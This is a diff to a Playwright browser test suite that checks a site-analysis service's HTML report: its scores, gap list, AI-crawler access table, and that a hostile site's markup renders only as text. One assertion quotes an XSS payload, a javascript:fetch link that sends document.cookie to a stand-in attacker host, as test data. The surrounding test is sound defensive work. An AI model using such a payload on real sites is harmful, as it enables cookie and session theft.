@@ -6,21 +6,29 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { chromium, type Browser, type Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { renderHtmlReport } from '../../../src/domain/reports/html-report.js'
-import { harness, type Harness } from '../../fixtures/analyze.js'
+import { REPORT_CSP } from '../../../src/domain/reports/html-report.js'
+import { harness, KEY, type Harness } from '../../fixtures/analyze.js'
+import { CDN, crawlerSites } from '../../fixtures/sites/crawlers.js'
 import { HOSTILE, HOSTILE_TITLE, hostileSite } from '../../fixtures/sites/hostile.js'
 import { WEAK, WEAK_HOSTS, weakSite } from '../../fixtures/sites/weak.js'
 
 const CHROMIUM = '/usr/bin/chromium'
+const CATEGORY_NAMES: Record<string, string> = {
+  fetchability: 'Fetchability', metadata: 'Metadata', crawl_policy: 'Crawl policy', structured_data: 'Structured data', llm_readiness: 'LLM readiness', freshness: 'Freshness'
+}
 const available = existsSync(CHROMIUM)
 const inCi = (process.env.CI ?? '') !== '' && process.env.CI !== 'false'
-const suite = available || inCi ? describe : describe.skip
+// in CI a missing chromium fails the run (the launch throws) instead of skipping
+const runs = available || inCi
+const suite = runs ? describe : describe.skip
+/** The lines a person reads, without the blank ones between paragraphs. */
+const lines = (text: string): string[] => text.split('\n').filter((line) => line.trim() !== '')
 
-suite(available ? 'the HTML report in chromium' : `the HTML report in chromium (skipped: no chromium at ${CHROMIUM})`, () => {
+suite(runs ? 'the HTML report in chromium' : `the HTML report in chromium (skipped: no chromium at ${CHROMIUM})`, () => {
   let h: Harness
   let browser: Browser
   beforeAll(async () => {
-    h = await harness([...WEAK_HOSTS, HOSTILE], (o) => ({ ...weakSite(o), ...hostileSite() }))
+    h = await harness([...WEAK_HOSTS, HOSTILE, CDN], (o) => ({ ...weakSite(o), ...hostileSite(), ...crawlerSites() }))
     browser = await chromium.launch({
       executablePath: CHROMIUM,
       args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking']
@@ -31,9 +39,17 @@ suite(available ? 'the HTML report in chromium' : `the HTML report in chromium (
     await h?.close()
   })
 
-  /** Opens a report, recording every request the page tries and every dialog it opens. */
-  async function open (report: any): Promise<{ page: Page, requests: string[], dialogs: string[] }> {
-    const page = await browser.newPage({ viewport: { width: 1100, height: 900 } })
+  /** The JSON report and the HTML page the route answers for the same site (Accept: text/html). */
+  async function reports (site: string): Promise<{ report: any, html: string }> {
+    const report = (await h.analyze(site)).body
+    const res = await h.app.inject({ method: 'POST', url: '/v1/site-intel/analyze', headers: { ...KEY, accept: 'text/html' }, payload: { url: site } })
+    expect([res.statusCode, res.headers['content-type'], res.headers['content-security-policy']]).toEqual([200, 'text/html; charset=utf-8', REPORT_CSP])
+    return { report, html: res.body }
+  }
+
+  /** Opens a report page, recording every request the page tries and every dialog it opens. */
+  async function open (html: string, javaScriptEnabled: boolean): Promise<{ page: Page, requests: string[], dialogs: string[] }> {
+    const page = await browser.newPage({ viewport: { width: 1100, height: 900 }, javaScriptEnabled })
     const requests: string[] = []
     const dialogs: string[] = []
     await page.route('**/*', async (route) => {
@@ -44,19 +60,27 @@ suite(available ? 'the HTML report in chromium' : `the HTML report in chromium (
       dialogs.push(dialog.message())
       dialog.dismiss().catch(() => {})
     })
-    await page.setContent(renderHtmlReport(report), { waitUntil: 'load' })
+    await page.setContent(html, { waitUntil: 'load' })
     return { page, requests, dialogs }
   }
 
-  it('shows the two scores and every gap with its evidence, and takes a screenshot', async () => {
-    const report = (await h.analyze(h.server.origin(WEAK))).body
-    const { page, requests } = await open(report)
+  it('shows the two scores, the categories and every gap with its evidence, without JavaScript, and takes a screenshot', async () => {
+    const { report, html } = await reports(h.server.origin(WEAK))
+    const { page, requests } = await open(html, false)
+    expect(await page.locator('script').count()).toBe(0)
     const text = await page.innerText('body')
     expect(text).toContain(`Technical crawl score\n${report.technical_crawl_score} / ${report.max_score}`)
     expect(text).toContain(`AEO authority score\n${report.aeo_authority_score.score} / 100`)
-    for (const gap of report.gaps) {
-      expect(text, gap.code).toContain(gap.code)
-      expect(text, gap.code).toContain(gap.evidence)
+    for (const [id, category] of Object.entries<any>(report.category_scores)) {
+      expect(await page.locator('#categories tr', { hasText: CATEGORY_NAMES[id] }).innerText(), id).toBe(`${CATEGORY_NAMES[id]}\t${category.score} / ${category.max}`)
+    }
+    const gaps = page.locator('#gaps .gap')
+    expect(await gaps.count()).toBe(report.gaps.length)
+    for (const [i, gap] of report.gaps.entries()) {
+      // in priority order, each with its severity, the points it costs, its evidence and its recommendation
+      expect(lines(await gaps.nth(i).innerText()), gap.code).toEqual([
+        `${gap.code} ${gap.severity} · ${gap.points_lost} ${gap.points_lost === 1 ? 'point' : 'points'}`, gap.evidence, `Recommendation: ${gap.recommendation}`
+      ])
     }
     const file = join(tmpdir(), 'site-report-weak.png')
     await page.screenshot({ path: file, fullPage: true })
@@ -67,14 +91,30 @@ suite(available ? 'the HTML report in chromium' : `the HTML report in chromium (
     await page.close()
   })
 
+  it('shows what each AI crawler got, and the mismatches both ways', async () => {
+    const { report, html } = await reports(h.server.origin(CDN))
+    const { page, requests } = await open(html, false)
+    const row = async (crawler: string): Promise<string> => await page.locator('#ai-crawlers tr', { hasText: `${crawler} (` }).innerText()
+    expect(await page.locator('#ai-crawlers tbody tr').count()).toBe(report.ai_crawler_access.fetched.length)
+    expect(await row('OAI-SearchBot')).toBe('OAI-SearchBot (OpenAI)\tsearch\tallowed by line 2\tHTTP 403, blocked, HTTP 403 where we got 200\tblocked by server')
+    expect(await row('PerplexityBot')).toBe('PerplexityBot (Perplexity)\tsearch\tallowed by line 2\tHTTP 403, challenge page, Cloudflare, HTTP 403 where we got 200\tblocked by server')
+    expect(await row('CCBot')).toBe('CCBot (Common Crawl)\ttraining\tdisallowed by line 5\tHTTP 200, served\tserved despite robots')
+    expect(await page.locator('#ai-crawlers').innerText()).toContain('a real crawler also comes from its own IP ranges, which this cannot imitate')
+    await page.screenshot({ path: join(tmpdir(), 'site-report-cdn.png'), fullPage: true })
+    expect(requests).toEqual([])
+    await page.close()
+  })
+
   it('renders a hostile site\'s markup and script as text: nothing runs, nothing is fetched', async () => {
-    const report = (await h.analyze(h.server.origin(HOSTILE))).body
-    const { page, requests, dialogs } = await open(report)
+    const { html } = await reports(h.server.origin(HOSTILE))
+    // scripts allowed in the browser: only the report's escaping and its policy keep the site's markup inert
+    const { page, requests, dialogs } = await open(html, true)
     const text = await page.innerText('body')
     expect(text).toContain(HOSTILE_TITLE)
     expect(text).toContain('"<b onmouseover=alert(1)>click here</b>" (javascript:fetch(\'https://evil.example/\'+document.cookie))')
     expect(await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned)).toBeUndefined()
     expect(await page.locator('script, iframe, img, a, object, embed, form').count()).toBe(0)
+    await page.locator('td, p, h1, h3').first().hover()
     expect([requests, dialogs]).toEqual([[], []])
     await page.close()
   })
